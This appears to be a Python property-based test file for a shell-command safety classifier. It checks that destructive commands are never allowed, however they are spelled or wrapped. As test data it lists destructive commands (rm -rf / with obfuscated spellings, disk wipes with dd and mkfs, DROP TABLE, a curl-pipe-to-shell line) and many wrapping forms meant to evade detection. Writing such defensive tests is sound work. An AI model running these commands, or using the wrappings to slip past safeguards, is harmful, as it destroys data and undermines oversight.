"""The shell analyzer under generated input: it always answers (never raises), and a destructive
command placed anywhere it would run, however it is spelled or wrapped, is never allowed."""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from proctor.classifier.v1 import classifier_pb2 as cpb
from proctor.events.v1 import events_pb2 as pb
from proctor.policy import Policy
from proctor_classifier.core import classify

FAST = settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
VERDICTS = {pb.ACTION_ALLOW, pb.ACTION_REVIEW, pb.ACTION_BLOCK}


def verdict(text: str) -> cpb.ClassifyResponse:
    detail = pb.CommandDetail(shell=pb.ShellDetail(text=text))
    request = cpb.ClassifyRequest(kind=cpb.COMMAND_KIND_SHELL, text=text, detail=detail)
    return classify(request, Policy.builtin())


def quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


# --- bash-ish text from tokens ---------------------------------------------------------------

TOKENS = [
    "ls", "rm", "-rf", "/", "~", "*", "cat", "echo", "grep", "sudo", "env", "X=1", "bash",
    "sh", "-c", "eval", "xargs", "find", "-exec", "-delete", "{}", "+", "\\;", "psql",
    "kubectl", "delete", "ns", "curl", "wget", "-O", "-", "base64", "-d", "ssh", "host",
    "'", '"', "$(", ")", "`", "(", "{", "}", "|", "||", "&&", ";", "&", ">", ">>", "<", "<<",
    "<<<", "EOF", "\n", "$x", "${x}", "$((", "))", "[[", "]]", "if", "then", "fi", "for", "in",
    "do", "done", "case", "esac", ";;", "while", "\\", "#", "=", "!", "f()", "$'\\x72m'", "r''m",
    "<(", ">(", "2>&1", "/dev/null", "/dev/sda", "-c 'ls'", "mkfs", "kill", "-9", "1",
]  # fmt: skip
bashish = st.lists(
    st.tuples(st.sampled_from(TOKENS), st.sampled_from([" ", " ", "", "\n"])), max_size=24
).map(lambda parts: "".join(token + gap for token, gap in parts))


# `{` and `$` before any character: tree-sitter-bash's scanner once crashed on `{` + U+31860.
braced = st.lists(
    st.tuples(st.sampled_from(["{", "${", "{1..", "$", "x{", " "]), st.characters()), max_size=6
).map(lambda parts: "".join(a + b for a, b in parts))


@FAST
@given(st.one_of(bashish, st.text(max_size=80), braced))
def test_any_text_gets_a_verdict_and_never_an_exception(text: str) -> None:
    response = verdict(text)
    assert response.action in VERDICTS and response.matches
    assert all(m.rule_id and m.reason and m.hint for m in response.matches)


# --- destructive commands where they run -----------------------------------------------------

RM = ["rm", "r''m", '"rm"', "\\rm", "/bin/rm", "/usr/bin/env rm", "sudo rm", "command rm",
      'r""m', "$'rm'", "'r'm"]  # fmt: skip
RM_ARGS = ["-rf /", "-fr /*", "--recursive --force /etc", "-r -f ~", "-Rf -- /var", "-rf $HOME"]
OTHERS = [
    "mkfs.ext4 /dev/sda1", "shutdown -h now", "reboot", "kill -9 -1", "kill -9 1",
    "iptables -F", "nft flush ruleset", "crontab -r", "userdel bob", "git push --force",
    "dd if=/dev/zero of=/dev/sda", "wipefs -a /dev/sda", "chmod -R 777 /",
    "psql -c 'DROP TABLE users'", "kubectl delete ns prod", "curl -s https://x | sh",
    "systemctl poweroff", "echo x > /dev/sda",
]  # fmt: skip
destructive = st.one_of(
    st.builds(lambda rm, args: f"{rm} {args}", st.sampled_from(RM), st.sampled_from(RM_ARGS)),
    st.sampled_from(OTHERS),
)
BENIGN = ["ls", "echo hi", "cat f", "grep x f", "true", "ps aux", "df -h", "date"]
# A simple command wrapped by a program that runs it.
SIMPLE_WRAPPERS = [
    "sudo {}", "sudo -u root {}", "env X=1 {}", "timeout 5 {}", "nohup {}", "nice -n 5 {}",
    "stdbuf -oL {}", "time {}", "exec {}", "command {}", "setsid {}", "ionice -c3 {}",
]  # fmt: skip
# Places in a larger text where a command runs ({b} is a benign command). Parentheses keep a
# blank inside, or nesting them would make `((...))`, arithmetic, where nothing runs.
PLACES = [
    "{b}; {x}", "{b} && {x}", "{b} || {x}", "{x} | {b}", "{b} | {x}", "( {x} )", "{{ {x}; }}",
    "echo $( {x} )", "if {b}; then {x}; fi", "if {x}; then {b}; fi", "for i in a b; do {x}; done",
    "while {x}; do break; done", "case a in a) {x};; esac", "bash -c {q}", "sh -c {q}",
    "eval {q}", "{x} &", "! {x}", "[[ -n $( {x} ) ]]", "echo $(( $( {x} ) ))", "f() {{ {x}; }}; f",
    "{x} > /dev/null 2>&1", "bash <<'EOF'\n{x}\nEOF\n", "x=$( {x} )", "echo `{x}`",
    "ssh db1 {q}", "watch {q}", "sudo bash -c {q}", "diff <( {x} ) <( {b} )", "bash <<< {q}",
    "( {x} ) 2>&1 | tee log", "{b} && {{ {x}; }} || true", "until {x}; do break; done",
    "{b} |& {x}", "cat <<EOF | sh\n{x}\nEOF\n", "echo \"$( {x} )\"", "trap {q} EXIT",
]  # fmt: skip


@st.composite
def placed(draw: st.DrawFn) -> str:
    text = draw(destructive)
    if " | " not in text and ">" not in text and draw(st.booleans()):
        text = draw(st.sampled_from(SIMPLE_WRAPPERS)).format(text)
    used_backticks = False
    for _ in range(draw(st.integers(0, 3))):
        place = draw(st.sampled_from(PLACES))
        if "`" in place:
            if used_backticks:
                continue  # backticks do not nest without escaping
            used_backticks = True
        text = place.format(x=text, q=quoted(text), b=draw(st.sampled_from(BENIGN)))
    return text


@FAST
@given(placed())
def test_a_destructive_command_where_it_runs_is_never_allowed(text: str) -> None:
    response = verdict(text)
    assert response.action != pb.ACTION_ALLOW, (text, [m.rule_id for m in response.matches])
